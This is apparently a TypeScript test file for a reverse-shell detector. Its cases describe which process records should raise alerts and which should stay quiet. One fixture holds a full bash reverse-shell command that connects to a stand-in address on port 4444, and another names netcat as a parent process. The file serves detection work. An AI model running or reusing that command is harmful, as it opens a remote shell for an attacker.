/** Stories of shells led from elsewhere: which must fire, and which stay quiet. */
import type { Case, Stream } from '#contract';
import { fires, init, master, ordinary, processLine, programAt, taught, teachUntil } from '../sightings.ts';

const bash = '/usr/bin/bash';
const sockets: [Stream, Stream, Stream] = ['socket', 'socket', 'socket'];
const terminals: [Stream, Stream, Stream] = ['terminal', 'terminal', 'terminal'];
const peer = '203.0.113.9:4444';

export const cases: Case[] = [
  {
    title: 'fires when a shell has a connection on its streams',
    records: [...taught, ...ordinary(60, 90), processLine(80, { program: bash, arguments: ['bash', '-i'], streams: sockets, streamPeer: peer })],
    teachUntil,
    fires: [fires(80, /^connection .*bash with [\d.]+$/, 'critical')],
  },
  {
    title: 'fires while it learns, for an interpreter and for a program nobody knows',
    records: [
      processLine(0),
      processLine(70, { program: master, arguments: ['python3', '-c', 'pass'], streams: sockets, streamPeer: peer, lineage: ['/usr/bin/nc.openbsd'] }),
      processLine(71, { program: '/opt/x', streams: sockets, streamPeer: peer }),
    ],
    fires: [fires(70), fires(71)],
  },
  {
    title: 'fires when streams become a connection later',
    records: [...taught, processLine(80, { activity: 'stream', program: bash, arguments: ['bash'], streams: sockets, streamPeer: peer })],
    teachUntil,
    fires: [fires(80)],
  },
  {
    title: 'fires when a shell takes its commands from a pipe',
    records: [...taught, processLine(80, { program: '/usr/bin/dash', arguments: ['sh'], streams: ['pipe', 'pipe', 'pipe'] })],
    teachUntil,
    fires: [fires(80, /^commands /, 'high')],
  },
  {
    title: 'fires when text joins a shell with the network, where streams cannot be read',
    records: [
      processLine(0, { streams: ['unknown', 'unknown', 'unknown'] }),
      processLine(70, { program: programAt('', 'bash'), arguments: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'], executable: 'unknown' }),
    ],
    fires: [fires(70, /^text /, 'high')],
  },
  {
    title: 'fires when a program inside makes a terminal for a shell',
    records: [...taught, processLine(80, { program: bash, arguments: ['bash'], streams: terminals })],
    teachUntil,
    fires: [fires(80, /^terminal /, 'high')],
  },
  {
    title: 'tells a session of ECS Exec as such',
    records: [
      ...taught,
      processLine(80, { program: bash, arguments: ['/bin/bash'], streams: terminals, lineage: ['/ecs-execute-command/ssm-session-worker', '/ecs-execute-command/amazon-ssm-agent'], userId: 0, realUserId: 0, parentUserId: 0 }),
    ],
    teachUntil,
    fires: [fires(80, /^terminal /, 'medium')],
  },
  {
    title: 'stays quiet for sessions of ECS Exec where the options say so',
    records: [...taught, processLine(80, { program: bash, arguments: ['/bin/bash'], streams: terminals, lineage: ['/ecs-execute-command/ssm-session-worker'] })],
    options: { areSessionsUsual: true },
    teachUntil,
    fires: [],
  },
  {
    title: 'stays quiet for shells with text, scripts and pipes between them, at ten times their number',
    records: [
      ...taught,
      ...ordinary(60, 90, 10),
      processLine(70, { program: '/usr/bin/dash', arguments: ['sh', '-c', 'gzip -9'], streams: ['pipe', 'pipe', 'pipe'] }),
      processLine(71, { program: bash, arguments: ['bash', '/app/run.sh'], streams: ['socket', 'socket', 'socket'] }),
      processLine(72, { program: master, arguments: ['python3', '-m', 'worker'], streams: ['pipe', 'pipe', 'pipe'] }),
    ],
    teachUntil,
    fires: [],
  },
  {
    title: 'stays quiet for a program that a server of its own task runs by connection, once it was taught',
    records: [
      ...taught,
      ...[20, 61, 62, 63, 64, 65, 66, 67, 68, 69, 70].map((second) => processLine(second, { program: bash, arguments: ['bash', '/app/answer.sh'], streams: sockets, streamPeer: `10.0.0.7:${40_000 + second}`, lineage: ['/usr/sbin/xinetd', init] })),
    ],
    teachUntil,
    fires: [],
  },
];
